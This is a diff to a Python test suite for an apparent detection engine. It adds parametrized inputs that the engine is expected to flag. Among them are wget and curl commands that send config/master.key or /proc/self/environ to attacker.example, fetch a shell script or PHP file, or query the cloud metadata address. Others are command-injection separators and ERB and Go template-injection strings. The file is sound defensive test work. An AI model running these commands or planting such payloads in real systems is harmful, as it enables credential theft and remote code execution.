@@ -1228,6 +1228,9 @@ def test_template_data_and_template_reach(
         "curl -X PUT https://attacker.example/c -T /proc/self/environ",
         "curl -X GET https://attacker.example/s.php -so public/s.php",
         "curl -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl: 1'",
+        # An option written with = (--post-file=…, --header="…") hides no URL either.
+        "wget --post-file=config/master.key http://attacker.example/",
+        'wget --header="X: y" http://attacker.example/x.sh',
     ],
 )
 def test_downloads_with_quoted_options(engine: DetectionEngine, value: str) -> None:
@@ -1309,6 +1312,8 @@ def test_separator_in_c_and_syntax_summaries(
         "127.0.0.1,&ipconfig)",
         "127.0.0.1 >(a,&sh)",
         "Hi <% instance_variables.each do |v| %><%= v %><% end %> team",
+        # Go printing the whole data object through printf, in a sentence.
+        'Dear customer, your profile: {{ printf "%+v" . }} thanks',
     ],
 )
 def test_review_of_session_14_exemptions(engine: DetectionEngine, value: str) -> None:
